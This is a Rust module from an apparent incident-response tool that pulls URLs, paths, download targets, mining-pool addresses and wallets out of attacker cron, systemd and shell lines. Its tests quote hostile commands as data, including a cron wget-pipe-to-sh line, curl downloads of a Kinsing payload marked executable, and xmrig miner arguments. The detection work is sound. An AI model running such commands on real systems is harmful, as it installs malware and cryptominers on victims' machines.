//! What a line of attacker text names: URLs, absolute paths, where a download was written, pool
//! `host:port` arguments and wallets. Used on cron lines, unit `Exec*` lines, shell hooks, history lines
//! and process command lines. Works on bytes; nothing here is trusted or executed.
//!
//! This is reference extraction, not a parser of any one format: the model's persistence entries carry
//! what their command names ([`crate::model::persistence::PersistenceEntry::refs`]), and the graph reads
//! process command lines and histories with it.

use std::net::IpAddr;

/// URL schemes worth a node.
const SCHEMES: &[&str] = &[
    "http://",
    "https://",
    "ftp://",
    "tftp://",
    "stratum+tcp://",
    "stratum+ssl://",
    "stratum+tls://",
    "stratum2+tcp://",
    "stratum2+ssl://",
    "stratum+udp://",
];

/// Paths that say nothing about the attack.
const BORING_PATHS: &[&[u8]] = &[
    b"/dev/null",
    b"/dev/zero",
    b"/dev/stdin",
    b"/dev/stdout",
    b"/dev/stderr",
    b"/dev/tty",
    b"/",
];

/// Most references taken from one line: a 10,000-token line must not make 10,000 nodes.
const MAX_REFS: usize = 16;

#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Refs {
    pub urls: Vec<Vec<u8>>,
    pub paths: Vec<Vec<u8>>,
    /// `(url, path)`: the path a download command wrote the URL to (`-O`, `-o`, `>`).
    pub downloads: Vec<(Vec<u8>, Vec<u8>)>,
}

/// A word of the line, as [`crate::parse::shell_line`] splits it (quotes honoured: a quoted path with a
/// blank is one path), and whether it is a redirection's target.
struct Token {
    bytes: Vec<u8>,
    after_redirect: bool,
}

/// The line's words: one splitter for every reader of shell text, capped.
fn tokens(text: &[u8]) -> Vec<Token> {
    let mut words = super::shell_line::words_in_order(text);
    words.truncate(4096);
    words
        .into_iter()
        .map(|(bytes, after_redirect)| Token {
            bytes,
            after_redirect,
        })
        .collect()
}

/// The URL inside a token, from its scheme on, up to a blank (a quoted word may hold several).
fn url_in(token: &[u8]) -> Option<&[u8]> {
    let lower = token.to_ascii_lowercase();
    SCHEMES.iter().find_map(|scheme| {
        let at = find(&lower, scheme.as_bytes())?;
        let url = token.get(at..)?;
        let url = url.split(|b| b.is_ascii_whitespace()).next().unwrap_or(url);
        (url.len() > scheme.len()).then_some(url)
    })
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || hay.len() < needle.len() {
        return None;
    }
    hay.windows(needle.len()).position(|w| w == needle)
}

/// The absolute path inside a token (`/x`, `~/x`, `--opt=/x`, `-O/x`).
fn path_in(token: &[u8]) -> Option<&[u8]> {
    let candidate = if token.starts_with(b"/") || token.starts_with(b"~/") {
        token
    } else if let Some(eq) = token.iter().position(|b| *b == b'=') {
        token.get(eq + 1..)?
    } else if token.starts_with(b"-O/") || token.starts_with(b"-o/") {
        token.get(2..)?
    } else {
        return None;
    };
    if !(candidate.starts_with(b"/") || candidate.starts_with(b"~/")) || candidate.len() < 2 {
        return None;
    }
    if candidate.starts_with(b"//") || BORING_PATHS.contains(&candidate) {
        return None;
    }
    Some(candidate)
}

fn push_unique(v: &mut Vec<Vec<u8>>, item: &[u8]) {
    if v.len() < MAX_REFS && !v.iter().any(|x| x == item) {
        v.push(item.to_vec());
    }
}

/// URLs, paths and download targets named in a line of shell-like text.
pub fn refs(text: &[u8]) -> Refs {
    let toks = tokens(text);
    let mut r = Refs::default();
    let mut outputs: Vec<(usize, Vec<u8>)> = Vec::new();
    let mut url_pos: Vec<(usize, Vec<u8>)> = Vec::new();
    let mut expect_output = false;
    for (i, t) in toks.iter().enumerate() {
        if let Some(url) = url_in(&t.bytes) {
            push_unique(&mut r.urls, url);
            url_pos.push((i, url.to_vec()));
            expect_output = false;
            continue;
        }
        let is_output_flag = matches!(
            t.bytes.as_slice(),
            b"-O" | b"-o" | b"--output" | b"--output-document"
        );
        if is_output_flag {
            expect_output = true;
            continue;
        }
        if let Some(p) = path_in(&t.bytes) {
            push_unique(&mut r.paths, p);
            let attached = t.bytes.starts_with(b"-O/")
                || t.bytes.starts_with(b"-o/")
                || t.bytes.starts_with(b"--output=")
                || t.bytes.starts_with(b"--output-document=");
            if expect_output || t.after_redirect || attached {
                outputs.push((i, p.to_vec()));
            }
        }
        expect_output = false;
    }
    for (pos, path) in outputs {
        let before = url_pos.iter().rev().find(|(u, _)| *u < pos);
        let chosen = before.or_else(|| url_pos.first());
        if let Some((_, url)) = chosen {
            if r.downloads.len() < MAX_REFS {
                r.downloads.push((url.clone(), path));
            }
        }
    }
    r
}

/// Host and port of a URL (`None` port when neither given nor implied by the scheme).
pub fn url_host_port(url: &[u8]) -> Option<(String, Option<u16>)> {
    let text = std::str::from_utf8(url).ok()?;
    let (scheme, rest) = text.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let authority = authority.rsplit('@').next()?;
    let (host, port) = split_host_port(authority)?;
    let port = port.or(match scheme.to_ascii_lowercase().as_str() {
        "http" => Some(80),
        "https" => Some(443),
        "ftp" => Some(21),
        _ => None,
    });
    Some((host, port))
}

/// `host:port`, `[v6]:port` or a bare host.
fn split_host_port(authority: &str) -> Option<(String, Option<u16>)> {
    if authority.is_empty() {
        return None;
    }
    if let Some(rest) = authority.strip_prefix('[') {
        let (host, after) = rest.split_once(']')?;
        let port = after.strip_prefix(':').and_then(|p| p.parse().ok());
        return Some((host.to_owned(), port));
    }
    match authority.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') => Some((h.to_owned(), p.parse().ok())),
        _ => Some((authority.to_owned(), None)),
    }
}

/// Whether a host is a plausible DNS name (letters, digits, `-`, `.`, with a dot and a letter TLD).
pub fn is_domain(host: &str) -> bool {
    if host.len() > 253 || !host.contains('.') || host.parse::<IpAddr>().is_ok() {
        return false;
    }
    let ok_chars = host
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.' || b == b'_');
    let tld = host.rsplit('.').next().unwrap_or("");
    ok_chars && tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic())
}

/// `IP:PORT` in the form socket records use (`[v6]:port` for IPv6).
pub fn endpoint_addr(ip: IpAddr, port: u16) -> String {
    match ip {
        IpAddr::V4(v4) => format!("{v4}:{port}"),
        IpAddr::V6(v6) => format!("[{v6}]:{port}"),
    }
}

/// Pool arguments of a miner command line: `-o host:port`, `--url=host:port`, `--pool host:port`.
pub fn pool_args(argv: &[&[u8]]) -> Vec<(String, u16)> {
    let mut out = Vec::new();
    let mut iter = argv.iter().peekable();
    while let Some(arg) = iter.next() {
        let value: Option<&[u8]> = match *arg {
            b"-o" | b"--url" | b"-url" | b"--pool" | b"-p" if iter.peek().is_some() => {
                iter.next().copied()
            }
            a if a.starts_with(b"--url=") => a.get(6..),
            a if a.starts_with(b"-o") && a.len() > 2 && !a.starts_with(b"-o/") => a.get(2..),
            _ => None,
        };
        let Some(value) = value.and_then(|v| std::str::from_utf8(v).ok()) else {
            continue;
        };
        let authority = value.split_once("://").map(|(_, r)| r).unwrap_or(value);
        let authority = authority.split('/').next().unwrap_or(authority);
        if let Some((host, Some(port))) = split_host_port(authority) {
            if (is_domain(&host) || host.parse::<IpAddr>().is_ok()) && out.len() < MAX_REFS {
                out.push((host.to_ascii_lowercase(), port));
            }
        }
    }
    out
}

/// Wallet-looking values of `-u` / `--user`: long base58/alphanumeric strings (Monero addresses are 95).
pub fn wallets(argv: &[&[u8]]) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut iter = argv.iter().peekable();
    while let Some(arg) = iter.next() {
        let value: Option<&[u8]> = match *arg {
            b"-u" | b"--user" | b"--wallet" if iter.peek().is_some() => iter.next().copied(),
            a if a.starts_with(b"--user=") => a.get(7..),
            a if a.starts_with(b"--wallet=") => a.get(9..),
            _ => None,
        };
        let Some(v) = value else { continue };
        let addr = v
            .split(|b| matches!(b, b'.' | b'+' | b'/'))
            .next()
            .unwrap_or(v);
        if addr.len() >= 40
            && addr.len() <= 128
            && addr.iter().all(u8::is_ascii_alphanumeric)
            && out.len() < 4
        {
            out.push(addr.to_vec());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cron_download_pipe() {
        let r = refs(b"* * * * * wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1");
        assert_eq!(r.urls, vec![b"http://195.3.146.118/unk.sh".to_vec()]);
        assert!(r.paths.is_empty());
        assert!(r.downloads.is_empty());
    }

    #[test]
    fn download_targets() {
        let r = refs(
            b"curl -fsSL http://x.example/kinsing -o /tmp/kdevtmpfsi; chmod +x /tmp/kdevtmpfsi",
        );
        assert_eq!(
            r.downloads,
            vec![(
                b"http://x.example/kinsing".to_vec(),
                b"/tmp/kdevtmpfsi".to_vec()
            )]
        );
        let r = refs(b"wget -O/etc/data/kinsing https://a.example/k");
        assert_eq!(
            r.downloads,
            vec![(
                b"https://a.example/k".to_vec(),
                b"/etc/data/kinsing".to_vec()
            )]
        );
        let r = refs(b"curl http://1.2.3.4/x >/var/tmp/.x");
        assert_eq!(
            r.downloads,
            vec![(b"http://1.2.3.4/x".to_vec(), b"/var/tmp/.x".to_vec())]
        );
    }

    #[test]
    fn paths_and_hostile_bytes() {
        let r =
            refs(b"ExecStart=/root/.systemd/systemd-resolved --config=/root/.systemd/config.json");
        assert_eq!(
            r.paths,
            vec![
                b"/root/.systemd/systemd-resolved".to_vec(),
                b"/root/.systemd/config.json".to_vec()
            ]
        );
        let r = refs(b"@reboot ~/.configrc/a/upd\xff\n$(x)");
        assert_eq!(r.paths, vec![b"~/.configrc/a/upd\xff".to_vec()]);
    }

    /// The line's words as the shell splits them (one splitter, [`super::super::shell_line`]).
    #[test]
    fn quoted_paths_and_shell_strings() {
        let r = refs(b"*/5 * * * * \"/tmp/.x y/run\" >/dev/null 2>&1");
        assert_eq!(r.paths, vec![b"/tmp/.x y/run".to_vec()]);
        let r = refs(b"sh -c \"wget http://x.example/a -O '/tmp/.a b'\"");
        assert_eq!(r.urls, vec![b"http://x.example/a".to_vec()]);
        assert_eq!(
            r.downloads,
            vec![(b"http://x.example/a".to_vec(), b"/tmp/.a b".to_vec())]
        );
    }

    #[test]
    fn url_parts() {
        assert_eq!(
            url_host_port(b"http://1.2.3.4/x"),
            Some(("1.2.3.4".into(), Some(80)))
        );
        assert_eq!(
            url_host_port(b"stratum+tcp://user@pool.example.com:3333"),
            Some(("pool.example.com".into(), Some(3333)))
        );
        assert_eq!(
            url_host_port(b"https://[::1]:8443/a"),
            Some(("::1".into(), Some(8443)))
        );
        assert!(is_domain("pool.supportxmr.com"));
        assert!(!is_domain("127.66.0.1"));
        assert!(!is_domain("config.json5x"));
    }

    #[test]
    fn miner_arguments() {
        let argv: Vec<&[u8]> = vec![
            b"xmrig",
            b"-o",
            b"pool.example.com:3333",
            b"-u",
            &[b'4'; 95],
            b"--url=stratum+tcp://127.66.0.1:3333",
        ];
        assert_eq!(
            pool_args(&argv),
            vec![
                ("pool.example.com".to_owned(), 3333),
                ("127.66.0.1".to_owned(), 3333)
            ]
        );
        assert_eq!(wallets(&argv).len(), 1);
    }
}
